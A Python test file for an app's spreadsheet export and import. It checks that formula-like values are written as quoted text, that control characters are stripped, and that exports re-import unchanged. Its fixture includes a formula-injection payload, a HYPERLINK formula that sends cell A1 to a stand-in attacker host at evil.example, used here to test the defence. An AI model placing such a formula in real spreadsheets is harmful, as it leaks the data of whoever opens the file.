"""Exports write text as text: a value that looks like a formula is written after an apostrophe (never as a live
formula), control characters no worksheet may hold are dropped, and the import takes the apostrophe off again,
so an export re-imports unchanged, as .xlsx and as .csv."""

from __future__ import annotations

import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from duijie.core.auth import Actor, Grant
from duijie.core.sheets import escape_text, unescape_text
from duijie.deals.sheets import import_file
from duijie.insight import exports
from duijie.marketplace.models import Opportunity
from tests import factories
from tests.conftest import login
from tests.deals import factories as deal_factories
from tests.marketplace import factories as market_factories

ORGANISER = Actor(username="t", grants=(Grant(role="organiser"),))
TRICKY = {
    "summary_zh": "=1+1 合作简介",
    "summary_en": "-5%",
    "contact_name": "@李四",
    "contact_phone": "+86 10 5555 0000",
    "contact_email": "'=already quoted",
    "title_en": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
}


def _project(db: Session) -> Opportunity:
    return market_factories.project(db, factories.event(db), **TRICKY)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_reimports_formula_like_text_unchanged(db: Session, fmt: str) -> None:
    opp = _project(db)
    data = exports.projects_file([opp], fmt=fmt, with_contacts=True)
    report = import_file(db, actor=ORGANISER, filename=f"projects.{fmt}", data=data)
    assert report.summary == {"created": 0, "updated": 0, "unchanged": 1, "errors": 0}, report.errors
    db.refresh(opp)
    assert {k: getattr(opp, k) for k in TRICKY} == TRICKY


def test_the_xlsx_export_holds_no_formula_and_quotes_what_looks_like_one(db: Session) -> None:
    opp = _project(db)
    sheet = load_workbook(io.BytesIO(exports.projects_file([opp], fmt="xlsx", with_contacts=True)))["项目 Projects"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n", "d"}
    values = {c.value for c in cells}
    assert "'=1+1 合作简介" in values and "'-5%" in values and "'@李四" in values and "''=already quoted" in values


def test_the_csv_export_quotes_what_a_spreadsheet_would_run(db: Session) -> None:
    opp = _project(db)
    text = exports.projects_file([opp], fmt="csv", with_contacts=True).decode("utf-8-sig")
    assert "'=1+1 合作简介" in text and "'-5%" in text and "'+86 10 5555 0000" in text
    assert ",=" not in text and ",-5%" not in text


def test_escaping_and_unescaping_are_exact_inverses() -> None:
    for value in ("=1", "-5%", "'=x", "''=x", "'plain", "plain", "\t=tab", "@", "'", "", "a=b"):
        assert unescape_text(escape_text(value)) == value, value
    assert escape_text("Haidian\x1fTower\x00") == "HaidianTower"


@pytest.mark.parametrize("path", ["/export/projects.xlsx", "/export/deals.xlsx", "/export/projects.csv"])
def test_a_control_character_in_a_title_does_not_break_the_export(
    client: TestClient, db: Session, path: str
) -> None:
    event = factories.event(db)
    market_factories.project(db, event, title_en="Haidian\x1fTower")
    deal_factories.deal(db, event, title_en="Haidian\x1fTower")
    login(client, "organiser", "organiser-demo")
    response = client.get(path, params={"event": event.slug})
    assert response.status_code == 200
    if path.endswith(".xlsx"):
        values = {
            c for ws in load_workbook(io.BytesIO(response.content)).worksheets for r in ws.iter_rows(values_only=True)
            for c in r
        }
        assert "HaidianTower" in values
    else:
        assert "HaidianTower" in response.content.decode("utf-8-sig")
